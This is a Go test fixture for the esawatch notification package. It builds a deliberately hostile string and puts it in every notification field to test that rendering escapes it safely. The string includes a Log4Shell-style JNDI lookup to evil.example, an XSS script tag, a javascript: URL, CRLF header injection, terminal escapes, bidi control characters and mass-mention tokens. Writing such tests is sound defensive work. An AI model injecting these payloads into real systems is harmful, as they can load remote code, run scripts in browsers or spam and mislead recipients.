package notifytest

import (
	"strings"
	"time"

	"github.com/esawatch/esawatch/notify"
)

// HostileText tries everything at once that text from a server may try: to
// mention, to link, to format, to reorder, to control a terminal, to be too
// long, and not to be text.
func HostileText() string {
	return "<!channel> <!here> @here @everyone <@U012AB3CD> <#C0ONCALL> <https://evil.example|click me> https://evil.example/x " +
		"*bold* _italic_ ~struck~ `code` ```block``` &amp; :skull: > quote\r\n\n1. list\x00\x07\x1b[31mred\x1b]0;title\x07\x9b2J" +
		"\u202eright to left\u202c\u2066isolate\u2069\u200bzero\u2028width\ufeff 🔥👩\u200d🚒 \xff\xfe\xc3( </code></pre><script>alert(1)</script> " +
		"{{.}} ${jndi:ldap://evil.example/a} %s%n" + strings.Repeat("A", 5000) + strings.Repeat("火", 5000)
}

// Hostile has HostileText in every field that quotes a server, or could.
func Hostile() notify.Notification {
	evil := HostileText()
	a := linkAlert("login")
	a.Title, a.Owner, a.Summary, a.Verdict, a.Location = evil, evil, evil, evil, evil
	a.Fault, a.RequestID, a.URL = evil, evil, "https://shop.example.com/"+evil
	a.DocURL, a.RunbookURL, a.CatalogURL = "javascript:alert(1)", "https://evil.example/|<!channel>", "https://ok.example/\r\nX: y"
	a.Conditions = []string{evil, "522"}
	a.Labels = map[string]string{"team": evil, evil: "x"}
	a.Evidence, a.Steps = nil, nil
	for range 40 {
		a.Evidence = append(a.Evidence, "status: "+evil, evil)
		a.Steps = append(a.Steps, evil)
	}
	n := incident(40, time.Minute, a)
	for range 30 {
		n.Alerts = append(n.Alerts, a)
	}
	n.Summary, n.SiteURL = evil, evil
	for i := range 40 {
		n.Events = append(n.Events, event(i+1, time.Minute, "joined", evil))
	}
	return n
}

// HostileResolved is Hostile at its end.
func HostileResolved() notify.Notification {
	n := Hostile()
	for i := range n.Alerts {
		n.Alerts[i] = recovered(n.Alerts[i], 2*time.Minute)
	}
	n.Firing, n.Reason, n.ResolvedAt = false, "recovered", start.Add(2*time.Minute)
	n.Seq++
	n.Events = []notify.Event{event(n.Seq, 2*time.Minute, "resolved", HostileText())}
	return n
}
